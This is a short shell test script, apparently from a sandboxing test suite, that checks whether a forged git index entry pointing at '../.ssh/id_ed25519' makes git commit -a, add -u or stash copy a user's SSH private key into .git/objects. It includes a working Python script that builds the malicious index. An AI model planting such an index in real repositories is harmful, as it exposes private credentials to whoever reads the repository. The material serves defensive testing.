# A program puts "../.ssh/id_ed25519" into the index: the person's git commit -a, add -u or stash reads it into .git/objects, where a program reads it.
needs walls python3
source "$ATTACK/gitlib.sh"
repository "$SPACE"
cat >index.py <<'END'
import hashlib, struct, subprocess
sha = bytes.fromhex(subprocess.run(["git", "rev-parse", "HEAD:one"], capture_output=True).stdout.decode().strip())
out = b"DIRC" + struct.pack(">II", 2, 2)
for n in [b"../.ssh/id_ed25519", b"one"]:
    e = struct.pack(">10I", 0, 0, 0, 0, 0, 0, 0o100644, 0, 0, 0) + sha + struct.pack(">H", len(n)) + n
    out += e + b"\0" * (8 - len(e) % 8)
open(".git/index", "wb").write(out + hashlib.sha1(out).digest())
END
cp index.py "$SCRATCH/index.py"
look='git cat-file --batch-all-objects --batch'
work() { (git commit -qam more; git add -u; git stash; git add -A) >>"$SCRATCH/person" 2>&1 </dev/null || true; }
room "python3 index.py && echo made"
says made
work
room "$look; echo looked"
says looked
hides "$SECRET" "the person's git commit -a has read their key into .git/objects, where a program reads it"
if ((${#broken[@]} == 0)); then
	repository "$HOME/other" && cd "$HOME/other" && python3 "$SCRATCH/index.py" && work
	$look 2>/dev/null | tr -d '\0' | grep -qF "$SECRET" || dead "git reads no such file"
fi
held
